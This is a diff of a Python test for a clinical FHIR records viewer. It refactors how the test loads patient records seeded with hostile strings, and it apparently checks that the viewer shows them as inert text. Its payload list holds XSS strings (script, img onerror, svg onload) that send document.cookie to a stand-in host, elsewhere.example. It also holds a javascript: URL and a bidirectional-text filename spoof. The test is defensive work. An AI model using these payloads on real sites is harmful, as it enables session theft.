@@ -1,17 +1,14 @@
 """records that want to be more than text are text or refused: nothing runs, nothing is asked elsewhere, the page stays readable"""
 
-import base64
-import json
 import struct
 import urllib.parse
 import zlib
 
+import custodian
 from browser import require
 from selenium.webdriver.common.by import By
 from viewer import clinician, confirm, find, sound
 
-TYPES = ["Patient", "AllergyIntolerance", "Condition", "Encounter", "MedicationRequest", "MedicationAdministration",
-         "ServiceRequest", "Specimen", "Observation", "DiagnosticReport", "Procedure", "DocumentReference"]
 RUN = "window.owned=1;fetch('https://elsewhere.example/'+document.cookie)"
 WORDS = [f"<script>{RUN}</script>", f"\"><img src=x onerror=\"{RUN}\">", f"'><svg onload='{RUN}'>", "</title></style><h1>乗っ取り</h1>",
          "javascript:window.owned=1", "\u202egnp.exe \u2066隠す\u2069 \u200f", "<a href=\"https://elsewhere.example/\">押す</a>",
@@ -84,33 +81,13 @@ def calm(page, mayRefuse=False):
 
 def swap(net, person):
     """Has the custodian hold the same records with hostile words in them, from now on."""
-    folder = net.folder.parent / "hostile"
-    folder.mkdir()
-    found = json.loads(net._http("oshidori/h-001", net.port + 1001, "GET", f"/fhir/Patient?identifier={person.local}")[1])
-    patient = found["entry"][0]["resource"]["id"]
+    held = custodian.records(net, person)
+    held["DocumentReference"] = [custodian.attached(resource, *ATTACHMENTS[number % len(ATTACHMENTS)])
+                                 for number, resource in enumerate(held["DocumentReference"])]
+    results = held["Observation"]
+    held["Observation"] = results + [{**results[n % len(results)], "id": f"more-{n}"} for n in range(RESULTS)]
     words = Words()
-    for type_ in TYPES:
-        query = f"_id={patient}" if type_ == "Patient" else f"patient=Patient/{patient}"
-        status, data = net._http("oshidori/h-001", net.port + 1001, "GET", f"/fhir/{type_}?{query}&_count=200")
-        require(status == 200, f"{type_}: {status} {data[:200]}")
-        resources = [entry["resource"] for entry in json.loads(data).get("entry", [])
-                     if entry["resource"]["resourceType"] == type_]
-        require(resources, f"no {type_} to make hostile")
-        if type_ == "DocumentReference":
-            resources = [attached(resource, number) for number, resource in enumerate(resources)]
-        if type_ == "Observation":
-            resources += [{**resources[n % len(resources)], "id": f"more-{n}"} for n in range(RESULTS)]
-        lines = [json.dumps(words.into(resource), ensure_ascii=False) for resource in resources]
-        (folder / f"{type_}.ndjson").write_text("\n".join(lines) + "\n")
-    serve = net._serve_words("oshidori", net.port + 1001, ["--records", folder])
-    net._end("oshidori")
-    net._start("oshidori", serve)
-
-
-def attached(resource, number):
-    kind, content = ATTACHMENTS[number % len(ATTACHMENTS)]
-    attachment = {"contentType": kind, "data": base64.b64encode(content).decode(), "title": "x"}
-    return {**resource, "content": [{**resource["content"][0], "attachment": attachment}]}
+    custodian.hold(net, {type_: [words.into(resource) for resource in resources] for type_, resources in held.items()})
 
 
 class Words:
